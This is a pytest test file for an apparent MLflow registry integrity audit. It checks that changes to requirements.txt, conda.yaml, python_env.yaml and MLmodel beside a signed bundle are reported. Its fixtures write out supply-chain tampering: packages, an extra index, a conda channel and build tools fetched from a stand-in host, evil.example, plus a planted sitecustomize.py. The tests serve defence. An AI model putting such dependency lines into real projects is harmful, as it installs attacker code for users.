"""What MLflow installs and calls is written beside a bundle, where no manifest names it: an audit looks there too."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from mlflow import MlflowClient

from regiolect.audit import audit
from regiolect.errors import IntegrityError
from regiolect.registry.promotions import tag_of
from tests.unit.audit.desk import MADE, Desk
from tests.unit.audit.test_audit import kinds, stored

pytestmark = pytest.mark.slow

Change = Callable[[Path], None]


def edited(name: str, change: Callable[[dict[str, object]], object]) -> Change:
    def apply(model: Path) -> None:
        document = yaml.safe_load((model / name).read_text())
        change(document)
        (model / name).write_text(yaml.safe_dump(document))

    return apply


def added(name: str, line: str) -> Change:
    def apply(model: Path) -> None:
        with (model / name).open("a") as file:
            file.write(f"\n{line}\n")

    return apply


def pyfunc(**changes: object) -> Change:
    return edited("MLmodel", lambda d: d["flavors"]["python_function"].update(changes))  # type: ignore[index]


ATTACKS: dict[str, Change] = {
    "a package more": added("requirements.txt", "evil==1.0"),
    "another index": added("requirements.txt", "--extra-index-url https://evil.example/simple"),
    "a package from an address": added("requirements.txt", "evil @ https://evil.example/evil.whl"),
    "the runtime from an address": added("requirements.txt", "onnxruntime @ https://evil.example/onnxruntime.whl"),
    "another version of the runtime": lambda model: (
        (model / "requirements.txt").write_text(
            (model / "requirements.txt").read_text().replace("onnxruntime==", "onnxruntime==0.")
        )
        and None
    ),
    "nothing at all": lambda model: (model / "requirements.txt").write_text("mlflow==3.17.2\n") and None,
    "a package of conda's": edited("conda.yaml", lambda d: d["dependencies"].insert(0, "evil=1.0")),  # type: ignore[attr-defined]
    "a channel of conda's": edited("conda.yaml", lambda d: d.update(channels=["https://evil.example"])),
    "a package of pip's in conda's": edited("conda.yaml", lambda d: d["dependencies"][-1]["pip"].append("evil==1")),  # type: ignore[index]
    "a build tool": edited("python_env.yaml", lambda d: d["build_dependencies"].append("evil==1.0")),  # type: ignore[attr-defined]
    "a tool from an address": edited(
        "python_env.yaml",
        lambda d: d["build_dependencies"].append("pip @ https://evil.example/pip.whl"),  # type: ignore[attr-defined]
    ),
    "packages of another file": edited("python_env.yaml", lambda d: d.update(dependencies=["-r other.txt"])),
    "another environment": pyfunc(env={"conda": "other.yaml", "virtualenv": "python_env.yaml"}),
    "another method": pyfunc(predict_fn="__init_subclass__"),
}


def forgotten(desk: Desk) -> None:
    """The promotion as releases signed it before they signed what lies beside: it names no file there."""
    client = MlflowClient(desk.registry.tracking_uri, desk.registry.tracking_uri)
    client.delete_registered_model_alias(desk.name, "champion")
    client.set_registered_model_alias(desk.name, "challenger", "1")
    client.delete_registered_model_tag(desk.name, tag_of(1))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_was_changed_beside_a_bundle_is_reported_signed_or_not(desk: Desk, attack: Change) -> None:
    desk.release(desk.approved())
    assert desk.audited().clean
    attack(stored(desk))
    assert kinds(desk.audited()) == ["IntegrityError"]
    # What no promotion signs is read, and may ask for what the bundle needs alone.
    forgotten(desk)
    assert kinds(audit(desk.registry, desk.book(), [desk.name], now=MADE)) == ["IntegrityError"]


def test_a_signed_file_is_the_very_file(desk: Desk) -> None:
    """A comment changes nothing of what is installed, and still is not what was there when the release signed."""
    desk.release(desk.approved())
    (stored(desk) / "conda.yaml").write_text((stored(desk) / "conda.yaml").read_text() + "# later\n")
    result = desk.audited()
    assert kinds(result) == ["IntegrityError"]
    assert "conda.yaml was changed" in result.versions[0].findings[0].found
    (stored(desk) / "conda.yaml").unlink()
    assert "conda.yaml is missing" in desk.audited().versions[0].findings[0].found


def test_a_file_that_was_added_is_reported(desk: Desk) -> None:
    desk.release(desk.approved())
    (stored(desk) / "code").mkdir()
    (stored(desk) / "code" / "sitecustomize.py").write_text("")
    assert "code/sitecustomize.py was added" in desk.audited().versions[0].findings[0].found


def test_what_mlflow_notes_when_it_downloads_is_nobodys_change(desk: Desk) -> None:
    desk.release(desk.approved())
    (stored(desk) / "registered_model_meta").write_text("model_name: x\nmodel_version: '1'\n")
    assert desk.audited().clean


def test_a_link_beside_the_bundle_is_reported(desk: Desk, tmp_path: Path) -> None:
    desk.release(desk.approved())
    path = stored(desk) / "requirements.txt"
    path.rename(tmp_path / "requirements.txt")
    path.symlink_to(tmp_path / "requirements.txt")
    assert kinds(desk.audited()) == ["IntegrityError"]


@pytest.mark.parametrize(
    "change",
    [
        pyfunc(env="conda.yaml"),
        edited("MLmodel", lambda d: d["flavors"]["python_function"].pop("env")),  # type: ignore[index]
        edited("python_env.yaml", lambda d: d.pop("build_dependencies")),
        edited("conda.yaml", lambda d: d.update(channels=["defaults"])),
        lambda model: (model / "python_env.yaml").unlink(),
    ],
    ids=["env as one name", "no env", "no build tools", "another usual channel", "no file for virtualenv"],
)
def test_another_mlflows_format_is_no_finding(desk: Desk, change: Change) -> None:
    desk.release(desk.approved())
    change(stored(desk))
    forgotten(desk)
    assert audit(desk.registry, desk.book(), [desk.name], now=MADE).clean


def test_a_release_does_not_sign_what_asks_for_more(desk: Desk) -> None:
    """Somebody was faster: between the upload and the promotion the file was changed."""
    approved = desk.approved()
    desk.release(approved, champion=False)
    added("requirements.txt", "evil==1.0")(stored(desk))
    with pytest.raises(IntegrityError, match=r"evil==1\.0"):
        desk.release(approved)
    assert desk.registry.champion(desk.bundles.model, desk.region) is None


@pytest.mark.timeout(60)
def test_a_file_beside_the_bundle_without_end_is_a_finding(desk: Desk) -> None:
    desk.release(desk.approved())
    added = stored(desk) / "large.bin"
    added.touch()
    os.truncate(added, 1 << 40)
    result = desk.audited()
    added.unlink()
    assert kinds(result) == ["IntegrityError"]
    ((_, finding),) = result.versions[0].all_findings()
    assert "at most 1,048,576 bytes" in finding.expected and "1,099,511,627,776 bytes" in finding.found
